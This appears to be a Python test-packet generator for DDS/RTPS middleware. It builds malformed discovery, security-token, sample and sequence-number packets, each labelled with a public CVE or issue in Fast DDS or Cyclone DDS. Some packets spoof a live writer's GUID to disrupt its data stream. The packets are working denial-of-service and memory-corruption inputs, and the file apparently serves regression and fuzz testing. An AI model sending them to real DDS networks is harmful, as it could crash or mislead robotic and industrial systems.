"""Packets as public reports about DDS implementations describe them, made anew from the RTPS
specification: each a name, with the number of the report, and the bytes.

Reports since 2024 about Fast DDS: CVE-2024-26369, CVE-2024-28231, CVE-2024-30258 and 30259,
CVE-2025-62599 to 62603, CVE-2025-62799, CVE-2025-63829, CVE-2025-64438, issue 6345, and 1690 of
ros2/ros2 (samples); earlier ones that a version of Debian may have: CVE-2023-39534, CVE-2023-39945
to 39949, issues 3207 and 3931. About Cyclone DDS: issues 1555, 1751, 1758, 1771, 1772, 1854. What
is about the samples of a living writer (Known) carries its GUID, as only a program that makes its
own packets can send it.
"""

import dataclasses
import random
import struct

CDR_BE, CDR_LE, PL_CDR_BE, PL_CDR_LE = 0, 1, 2, 3
DATA, GAP, HEARTBEAT, ACKNACK, DATA_FRAG = 0x15, 0x08, 0x07, 0x06, 0x16
NACK_FRAG, HEARTBEAT_FRAG, INFO_TS, INFO_DST = 0x12, 0x13, 0x09, 0x0E
SEC_BODY, SEC_PREFIX, SEC_POSTFIX, SRTPS_PREFIX, SRTPS_POSTFIX = range(0x30, 0x35)
PARTICIPANTS = (0x000100C2, 0x000100C7)  # writer and reader of each built-in topic
PUBLICATIONS = (0x000003C2, 0x000003C7)
SUBSCRIPTIONS = (0x000004C2, 0x000004C7)
LIVELINESS = (0x000200C2, 0x000200C7)
HANDSHAKE = (0x000201C3, 0x000201C4)  # ParticipantStatelessMessage
KEY_EXCHANGE = (0xFF0202C3, 0xFF0202C4)  # ParticipantVolatileMessageSecure
SENTINEL = struct.pack("<HH", 1, 0)
COUNTS = (0xFFFFFFFF, 0xFFFFFFFD, 0x80000000, 0x7FFFFFFF, 0x10000000, 0x00FFFFFF)
TIMES = ((2**31 - 1, 0xFFFFFFFF), (-1, 0xFFFFFFFF), (-(2**31), 0), (0, 0xFFFFFFFF))
VENDORS = (b"\x01\x0f", b"\x01\x10")
DEFAULT_LEASE_S = 3


@dataclasses.dataclass(frozen=True)
class Known:
    """An endpoint of a living program, as its packets show it: prefix, writer, and its reader."""

    prefix: bytes
    writer: int
    reader: int


def entity(number):
    return struct.pack(">I", number)


def sequence(number):
    return struct.pack("<iI", number >> 32, number & 0xFFFFFFFF)


def submessage(kind, body, flags=1, length=None):
    return struct.pack("<BBH", kind, flags, len(body) if length is None else length) + body


def packet(prefix, *submessages):
    return b"RTPS\x02\x02" + prefix[:2] + prefix + b"".join(submessages)


def parameter(number, value, length=None):
    value += b"\0" * (-len(value) % 4)
    return struct.pack("<HH", number, len(value) if length is None else length) + value


def text(words, length=None):
    data = words.encode() + b"\0"
    padding = b"\0" * (-len(data) % 4)
    return struct.pack("<I", len(data) if length is None else length) + data + padding


def data(topic, payload, number=1, flags=5, inline_qos=b"", to_inline_qos=16):
    writer, reader = topic
    body = struct.pack("<HH", 0, to_inline_qos) + entity(reader) + entity(writer) + sequence(number)
    return submessage(DATA, body + inline_qos + payload, flags)


def parameters(*some, end=SENTINEL):
    return struct.pack(">HH", PL_CDR_LE, 0) + b"".join(some) + end


def locator(kind=1, port=7410, address=(127, 0, 0, 1)):
    return struct.pack("<iI", kind, port) + b"\0" * 12 + bytes(address)


def announcement(prefix, *more, lease=(DEFAULT_LEASE_S, 0), locators=None, end=SENTINEL):
    """A participant of its own (SPDP)."""
    guid = prefix + entity(0x000001C1)
    places = locators or [locator(port=7999)]
    some = [
        parameter(0x15, b"\x02\x02"),
        parameter(0x16, prefix[:2]),
        parameter(0x50, guid),
        parameter(0x58, struct.pack("<I", 0x3C3F)),
        *([] if lease is None else [parameter(0x02, struct.pack("<iI", *lease))]),
        *(parameter(number, place) for place in places for number in (0x32, 0x31)),
        *more,
    ]
    return data(PARTICIPANTS, parameters(*some, end=end))


def token(name, properties=b"", binaries=b""):
    """A DataHolder of DDS Security: class, properties, binary properties."""
    return text(name) + (properties or struct.pack("<I", 0)) + (binaries or struct.pack("<I", 0))


def torn_tokens():
    for count in COUNTS:
        word = struct.pack("<I", count)
        one = struct.pack("<I", 1)
        yield f"class of {count:x}", word + b"DDS:Auth:PKI-DH:1.0\0"
        yield f"{count:x} properties", token("DDS:Auth:PKI-DH:1.0", word + text("a") + text("b"))
        yield f"name of {count:x}", token("DDS:Auth:PKI-DH:1.0", one + word + b"dds.cert.sn\0")
        yield f"{count:x} binaries", token("DDS:Auth:PKI-DH:1.0", b"", word + text("a") + one)
        yield f"bytes {count:x}", token("DDS:Auth:PKI-DH:1.0", b"", one + text("a") + word)
        yield f"holder of {count:x}", word + word + word


def torn_announcements(prefix):
    for number, name in ((0x1001, "identity"), (0x1002, "permissions"), (0x1006, "status")):
        for what, torn in torn_tokens():
            yield (
                f"CVE-2025-62599..62602 {name} token, {what}",
                [announcement(prefix(), parameter(number, torn))],
            )
    for lease in ((0, 0), (-1, 0), (-(2**31), 0), (2**31 - 1, 0xFFFFFFFF), (0, 1), (1, 2**32 - 1)):
        yield f"CVE-2024-30258 lease {lease}", [announcement(prefix(), lease=lease)]
    yield "CVE-2024-30258 400 locators", [
        announcement(prefix(), locators=[locator(port=7000 + i) for i in range(400)])
    ]
    wrong = ((1, 0), (1, 0xFFFFFFFF), (1, 65536), (2, 1), (4, 1), (8, 1), (-1, 0), (16, 5))
    for kind, port in wrong:
        yield f"Cyclone 1772 locator {kind} {port}", [
            announcement(prefix(), locators=[locator(kind, port, (0, 0, 0, 0))])
        ]
    yield "Cyclone 1758 no lease", [announcement(prefix(), lease=None)]
    for count in COUNTS:
        word = struct.pack("<I", count)
        torn = parameter(0x59, word + text("PARTICIPANT_TYPE") + text("SIMPLE"))
        yield f"CVE-2023-39534 {count:x} properties", [announcement(prefix(), torn)]
        yield f"CVE-2023-39946 property of {count:x}", [
            announcement(prefix(), parameter(0x59, struct.pack("<I", 1) + word + b"abcdefgh"))
        ]
        yield f"name of {count:x}", [announcement(prefix(), parameter(0x62, word + b"name"))]
        yield f"user data of {count:x}", [announcement(prefix(), parameter(0x2C, word + b"name"))]
    for length in (0xFFFC, 0xFFFF, 0x8000, 3, 1):
        yield f"CVE-2023-39947 parameter of {length}", [
            announcement(prefix(), parameter(0x59, b"\1\0\0\0abcd", length), end=b"")
        ]
    yield "Cyclone 1555 no end", [announcement(prefix(), end=b"")]
    for representation in (CDR_BE, CDR_LE, PL_CDR_BE, 0x0102, 0xFFFF):
        payload = struct.pack(">HH", representation, 0xA481) + parameter(0x50, prefix()) + SENTINEL
        yield f"Cyclone 1751 announcement as {representation:x}", [data(PARTICIPANTS, payload)]


def torn_data(prefix):
    for topic in (PARTICIPANTS, PUBLICATIONS, SUBSCRIPTIONS, LIVELINESS, HANDSHAKE, KEY_EXCHANGE):
        for flags in (0x17, 0x07, 0x0D, 0x03, 0x01, 0x04, 0x05):
            for to_qos in (16, 0, 8, 0xFFF0, 0xFFFF):
                yield f"CVE-2024-28231 Fast 3207 {topic[0]:x} {flags:x} {to_qos:x}", [
                    data(topic, b"\0\3\0\0", flags=flags, to_inline_qos=to_qos)
                ]
        for number in (0, -1, -(2**63), 2**63 - 1, 2**62):
            yield f"CVE-2023-39949 {topic[0]:x} number {number:x}", [
                data(topic, parameters(), number=number)
            ]
    much = b"\0\1\0\0" + b"\xff" * 20
    for payload in (b"", b"\0", b"\0\0\xa4\x81", b"\0\1\0\0", much, b"\xff" * 8):
        yield f"Cyclone 1751 1771 liveliness {payload.hex()}", [data(LIVELINESS, payload)]
    for length in COUNTS:
        body = prefix() + struct.pack(">I", 1) + struct.pack("<I", length) + b"x"
        yield f"Cyclone 1771 liveliness of {length:x}", [data(LIVELINESS, b"\0\1\0\0" + body)]


def endpoint(prefix, topic, *more):
    some = (
        parameter(0x5A, prefix + entity(0x00000103)),
        parameter(0x50, prefix + entity(0x000001C1)),
        parameter(0x05, text("SourceStatus")),
        parameter(0x07, text("dyncal::wire::SourceStatus")),
        *more,
    )
    return [announcement(prefix), data(topic, parameters(*some))]


def torn_endpoints(prefix):
    quality = {
        "reliability": (0x1A, "<IiI", ((2, 0, 0), (9, -1, 0))),
        "history": (0x40, "<Ii", ((0, -1), (0, 0), (0, 2**31 - 1), (7, -(2**31)))),
        "limits": (0x41, "<iii", ((-5, -5, -5), (0, 0, 0), (2**31 - 1,) * 3)),
        "durability": (0x1D, "<I", ((9,), (0xFFFFFFFF,))),
        "liveliness": (0x1B, "<IiI", ((9, -1, 0), (0, 0, 0))),
        "deadline": (0x23, "<iI", ((-1, 0), (0, 0), (0, 1))),
        "lifespan": (0x2B, "<iI", TIMES),
        "latency": (0x27, "<iI", TIMES),
        "service": (0x1E, "<iIIiiii", ((-1, 0, 7, -1, -1, -1, -1),)),
    }
    for topic in (PUBLICATIONS, SUBSCRIPTIONS):
        for name, (number, form, values) in quality.items():
            for value in values:
                torn = parameter(number, struct.pack(form, *value))
                yield f"CVE-2024-26369 {topic[0]:x} {name} {value}", endpoint(prefix(), topic, torn)
        texts = (0x05, 0x07, 0x29, 0x2C, 0x2D, 0x2E, 0x35, 0x59)
        for number in (*texts, 0x69, 0x72, 0x73, 0x75, 0x1004):
            for count in COUNTS:
                torn = parameter(number, struct.pack("<II", count, count) + b"abcd")
                yield f"{topic[0]:x} parameter {number:x} of {count:x}", endpoint(
                    prefix(), topic, torn
                )


def written(prefix, benches, topic, kind, payload):
    """By a writer of its own that readers of these benches are to match."""
    writer = 0x00000102
    partitions = struct.pack("<I", len(benches)) + b"".join(map(text, benches))
    some = (
        parameter(0x5A, prefix + entity(writer)),
        parameter(0x50, prefix + entity(0x000001C1)),
        parameter(0x05, text(topic)),
        parameter(0x07, text(f"dyncal::wire::{kind}")),
        parameter(0x1A, struct.pack("<IiI", 2, 0, 0x1999999A)),  # reliable
        parameter(0x1D, struct.pack("<I", 1)),  # transient local
        parameter(0x29, partitions),
    )
    announced = [announcement(prefix), data(PUBLICATIONS, parameters(*some))]
    return [*announced, data((writer, 0), b"\0\1\0\0" + payload)]


def torn_samples(prefix, benches):
    kinds = {
        "DauSamples": "SampleBlock",
        "SourceStatus": "SourceStatus",
        "SourceDescription": "SourceDescription",
        "CalibrationResult": "CalibrationResult",
        "Measurement": "Measurement",
    }
    for topic, kind in kinds.items():
        for count in COUNTS:
            word = struct.pack("<I", count)
            for what, payload in (
                ("key", word + b"\xff" * 64),
                ("second key", text("other") + word + b"\xff" * 64),
                ("rest", text("other") + text("dau") + b"\1" * 16 + word * 40),
            ):
                yield f"ros2 1690 {topic} {what} of {count:x}", written(
                    prefix(), benches, topic, kind, payload
                )
    for seconds, fraction in TIMES:
        stamp = submessage(INFO_TS, struct.pack("<iI", seconds, fraction))
        own = written(prefix(), benches, "SourceStatus", "SourceStatus", text("other") + b"\1" * 80)
        yield f"CVE-2025-63829 written at {seconds} {fraction:x}", [*own[:2], stamp, own[2]]


def torn_handshakes(prefix):
    for topic in (HANDSHAKE, KEY_EXCHANGE):
        for name in ("dds.sec.auth", "dds.sec.participant_crypto_tokens"):
            for what, torn in torn_tokens():
                for count in (1, 2, 0x10000000, 0xFFFFFFFF):
                    own = prefix()
                    guid = own + entity(0x000001C1)
                    body = guid + sequence(1) + b"\0" * 24 + b"\0" * 48 + text(name)
                    yield f"CVE-2025-62603 {name}, {count:x} holders, {what}", [
                        announcement(own),
                        data(topic, b"\0\1\0\0" + body + struct.pack("<I", count) + torn),
                    ]
        own = prefix()
        body = own + entity(0x1C1) + sequence(1) + b"\0" * 72 + text("dds.sec.auth")
        many = struct.pack("<I", 4000) + (text("") + struct.pack("<II", 0, 0)) * 4000
        yield "CVE-2025-62603 4000 empty holders", [
            announcement(own),
            data(topic, b"\0\1\0\0" + body + many)[:60_000],
        ]
    for length in (0, 1, 3, 4, 8, 47):
        material = text("dds.cryp.keymat") + struct.pack("<I", length) + b"\xff" * 48
        keys = token("DDS:Crypto:AES_GCM_GMAC", b"", struct.pack("<I", 1) + material)
        own = prefix()
        body = own + entity(0x1C1) + sequence(1) + b"\0" * 72
        body += text("dds.sec.participant_crypto_tokens") + struct.pack("<I", 1) + keys
        yield (
            f"Fast 6345 keys of {length}",
            [announcement(own), data(KEY_EXCHANGE, b"\0\1\0\0" + body)],
        )


def torn_secured(prefix):
    for kind in (SEC_BODY, SEC_PREFIX, SEC_POSTFIX, SRTPS_PREFIX, SRTPS_POSTFIX):
        for size in (0, 4, 8, 19, 20, 24, 40, 200):
            for filling in (b"\0", b"\xff", b"\x7f"):
                yield f"{kind:x} of {size} {filling.hex()}", [submessage(kind, filling * size)]
    header = b"\0\0\0\4" + b"\1\2\3\4" * 4
    for count in COUNTS:
        yield f"CVE-2025-62601 body of {count:x}", [
            submessage(SEC_PREFIX, header),
            submessage(SEC_BODY, struct.pack(">I", count) + b"x" * 40),
            submessage(SEC_POSTFIX, b"m" * 16 + struct.pack(">I", count)),
        ]
        yield f"CVE-2025-62601 message of {count:x}", [
            submessage(SRTPS_PREFIX, header),
            submessage(SEC_BODY, struct.pack(">I", count) + b"x" * 40),
            submessage(SRTPS_POSTFIX, b"m" * 16 + struct.pack(">I", count)),
        ]


def torn_numbers(writer, reader):
    """About the samples of this writer."""
    ends = entity(reader) + entity(writer)
    gaps = ((1, 2**24 - 1), (1, 2**31), (1, 2**62), (2**62, 1), (-5, 5), (0, 2**63 - 1))
    for start, base in gaps:
        for bits in (0, 1, 256, 257, 0xFFFFFFFF):
            words = b"\xff" * 4 * min((bits + 31) // 32, 8)
            body = ends + sequence(start) + sequence(base) + struct.pack("<I", bits) + words
            yield f"CVE-2025-64438 gap {start:x} {base:x} {bits:x}", submessage(GAP, body)
    ranges = ((1, 2**62), (2**62, 2**62), (1, 0), (5, 1), (-1, 5), (2**63 - 1, 2**63 - 1))
    for first, last in ranges:
        body = ends + sequence(first) + sequence(last) + struct.pack("<I", 0x7FFFFFF0)
        yield f"heartbeat {first:x} {last:x}", submessage(HEARTBEAT, body)
    for far in (2**24, 2**40, 2**47):
        for step in range(8):  # as often as makes a screen believe that packets were lost
            at = ends + sequence(far + step) + sequence(far + step)
            count = struct.pack("<I", 0x10000000 + far % 0x1000007 + step)
            yield f"CVE-2025-64438 heartbeat from {far + step:x}", submessage(HEARTBEAT, at + count)
    for bits in (256, 257, 0xFFFFFFFF):
        for base in (1, 0, -1, 2**62):
            body = ends + sequence(base) + struct.pack("<I", bits) + b"\xff" * 32 + b"\0\0\0\x70"
            yield f"acknack {base:x} {bits:x}", submessage(ACKNACK, body)
            frags = ends + sequence(1) + struct.pack("<II", base & 0xFFFFFFFF, bits) + b"\xff" * 36
            yield f"nack of fragments {base:x} {bits:x}", submessage(NACK_FRAG, frags)
    for last in (0, 0xFFFFFFFF, 0x7FFFFFFF):
        body = ends + sequence(2**40) + struct.pack("<II", last, 0x7FFFFFF0)
        yield f"heartbeat of fragments {last:x}", submessage(HEARTBEAT_FRAG, body)
    most = 2**32 - 1
    sizes = ((0, 100), (1, most), (65535, 1), (64, 0), (1024, 2**31), (65535, most), (8, 9))
    for number, (size, whole) in enumerate(sizes):
        for start, count in ((1, 1), (0, 1), (1, 0), (2, 65535), (0xFFFFFFFF, 1), (0x10000, 2)):
            body = struct.pack("<HH", 0, 28) + ends + sequence(2**33 + number)
            body += struct.pack("<IHHI", start, count, size, whole) + b"\0\1\0\0" + b"f" * 60
            yield f"CVE-2025-62799 fragment {start:x} {count} {size} {whole:x}", submessage(
                DATA_FRAG, body
            )


def crafted(known, seed=1, benches=("other",)):
    """All packets, as (name, bytes), the same for the same `known`, seed and benches."""
    draw = random.Random(seed)
    drawn = []

    def new():
        drawn.append(draw.choice(VENDORS) + draw.randbytes(10))
        return drawn[-1]

    few = [new() for _ in range(40)]  # each new one is a participant more for everybody

    def one_of_few():
        drawn.append(draw.choice(few))
        return drawn[-1]

    for name, submessages in torn_announcements(new):
        yield name, packet(drawn[-1], *submessages)
    for one in (torn_data, torn_endpoints, torn_handshakes, torn_secured):
        for name, submessages in one(one_of_few):
            yield name, packet(drawn[-1], *submessages)
    for name, submessages in torn_samples(one_of_few, benches):
        yield name, packet(drawn[-1], *submessages)
    for topic in (PARTICIPANTS, PUBLICATIONS, LIVELINESS, HANDSHAKE, KEY_EXCHANGE):
        own = one_of_few()
        for name, torn in torn_numbers(*topic):
            yield f"{name} of {topic[0]:x}, unknown", packet(own, announcement(own), torn)
    for one in known:
        for name, torn in torn_numbers(one.writer, one.reader):
            yield f"{name} of {one.writer:x}", packet(one.prefix, torn)
